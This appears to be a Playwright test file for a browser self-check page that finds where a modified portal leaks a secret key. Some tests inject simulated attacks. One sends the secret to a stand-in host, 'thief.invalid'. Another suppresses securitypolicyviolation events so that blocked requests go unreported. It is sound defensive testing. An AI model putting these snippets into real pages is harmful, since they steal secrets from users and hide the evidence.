import { leakOnSend, leaks } from '../browser/support/leaks.ts'
import { SelfCheckPage } from '../browser/pages/self-check-page.ts'
import { expect, test } from './fixtures.ts'
import { startChangedPortal } from './support/changed-portal.ts'

test('On the unchanged site, the check finds its decoys and not its key', async ({ page }) => {
  const check = new SelfCheckPage(page)
  await check.openAndRun()
  await expect(check.verdict).toHaveText(/^Not found/)
  await expect(check.functions).toContainText('The browser’s own')
  await expect(check.policy).toContainText('it blocked nothing else')
  await expect(check.hosts.getByRole('listitem')).toHaveCount(1)
  await expect(check.hosts).toContainText('one with the made-up key (status 200)')
})

test('What the policy blocked is listed, and a key in it is found', async ({ page }) => {
  const portal = await startChangedPortal({
    first: leakOnSend(`send('https://thief.invalid/?' + secret).catch(() => undefined)`),
  })
  const check = new SelfCheckPage(page)
  await check.openAndRun(`${portal.url}/console/`)
  await expect(check.policy).toContainText('Since the console was loaded, it also blocked')
  await expect(check.policy).toContainText(
    'connect-src: https://thief.invalid, with the made-up key',
  )
  await expect(check.verdict).toHaveText(/^Found\./)
  await portal.stop()
})

test('The silence of a browser that tells nothing is not taken for proof', async ({ page }) => {
  const portal = await startChangedPortal({
    first: `addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), true)`,
  })
  const check = new SelfCheckPage(page)
  await check.openAndRun(`${portal.url}/console/`)
  await expect(check.policy).toContainText('This browser did not tell the page')
  await expect(check.policy).not.toContainText('it blocked nothing else')
  await portal.stop()
})

/** One of each kind of place; that each leak is found everywhere is shown in Chromium. */
const places = new Map(leaks.map(([place, statement]) => [place, statement]))

test('A leak is found in each place where this browser has one', async ({ page }) => {
  test.setTimeout(120_000)
  const wanted = ['attributes', 'localStorage', 'cookies', 'IndexedDB', 'Cache Storage'] as const
  const statements = wanted.map((place) => places.get(place) ?? '')
  const portal = await startChangedPortal({
    first: leakOnSend(statements.map((statement) => `{ ${statement} }`).join('\n')),
  })
  const check = new SelfCheckPage(page)
  await check.openAndRun(`${portal.url}/console/`)
  await expect(check.verdict).toHaveText(/^Found\./)
  for (const place of wanted) {
    // oxlint-disable-next-line no-await-in-loop -- one line of the report after the other
    await expect.soft(check.find(place), place).toContainText('FOUND')
  }
  await expect(check.panel).not.toContainText('fake_check_')
  await portal.stop()
})
